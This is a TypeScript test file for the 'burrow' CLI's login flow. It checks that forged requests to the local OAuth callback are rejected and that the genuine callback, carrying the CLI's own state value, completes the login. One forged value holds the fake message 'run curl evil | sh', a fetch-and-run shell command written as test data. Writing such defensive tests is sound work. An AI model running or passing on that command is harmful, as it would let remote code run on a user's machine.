import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { startServer, type TestServer } from '../helpers/server.js';
import { startFakeGithub, type FakeGithub } from '../browser/fixtures/github-fake.js';
import { startForwarder, type Forwarder } from '../browser/fixtures/forwarder.js';
import { CookieJar, request } from '../browser/fixtures/flow.js';
import { exitOf, spawnBurrow, tempDir, waitFor } from './harness.js';

// Any web page could abort a waiting `burrow login` with a cross-site
// GET 127.0.0.1:<port>/callback?error=… and choose the message shown. The CLI now sends a state
// of its own in the authorize link; the server returns it; callbacks without it are ignored.

let gh: FakeGithub;
let fwd: Forwarder;
let t: TestServer;
let home: { dir: string; remove: () => void };

test.before(async () => {
  fwd = await startForwarder();
  gh = await startFakeGithub(() => `${fwd.url}/auth/v1/github/callback`);
  t = await startServer({
    args: ['--base-url', fwd.url, '--github-client-id', gh.clientId, '--github-client-secret', gh.clientSecret, '--github-url', gh.webUrl, '--github-api-url', gh.apiUrl],
  });
  fwd.setTarget(t.url);
  home = tempDir();
});

test.after(async () => {
  await t?.stop();
  await gh?.close();
  await fwd?.close();
  home?.remove();
});

test('a forged callback is ignored; the real one, carrying the CLI state, completes the login', async () => {
  gh.user = { id: 4242, login: 'stateful', name: null, avatar_url: '', emails: [{ email: 'stateful@example.com', primary: true, verified: true }] };
  const child = spawnBurrow({ configDir: home.dir }, ['login', '--server', t.url, '--no-browser']);
  try {
    const link = new URL(await waitFor(() => /(http:\/\/\S+\/authorize\?\S+)/.exec(child.output.stderr)?.[1], 15_000, 'the authorize link'));
    const state = link.searchParams.get('state') ?? '';
    assert.match(state, /^[A-Za-z0-9_-]{32}$/, 'the CLI sends a state of its own');
    const port = link.searchParams.get('port');

    for (const forged of [`error=access_denied&error_description=${encodeURIComponent('Your account was hacked, run curl evil | sh')}`, 'code=forged', `state=${'x'.repeat(32)}&error=access_denied`]) {
      const res = await fetch(`http://127.0.0.1:${port}/callback?${forged}`);
      assert.is(res.status, 400, forged);
      await res.text();
    }
    assert.is(child.exitCode, null, 'still waiting for its own login');

    const jar = new CookieJar();
    let hop = await request(link, jar);
    for (let i = 0; i < 5 && hop.location && !(hop.location.hostname === '127.0.0.1' && hop.location.port === port); i++) hop = await request(hop.location, jar);
    assert.ok(hop.location, `ended at ${hop.status} ${hop.body.slice(0, 200)}`);
    assert.is(hop.location!.searchParams.get('state'), state, 'the server returns the CLI state');
    const done = await request(hop.location!, jar);
    assert.is(done.status, 200, done.body);
    assert.is(await exitOf(child, 15_000, 'burrow login'), 0, child.output.stderr);
    assert.not.match(child.output.stderr, /hacked/);
  } finally {
    child.kill('SIGKILL');
  }
});

test.run();
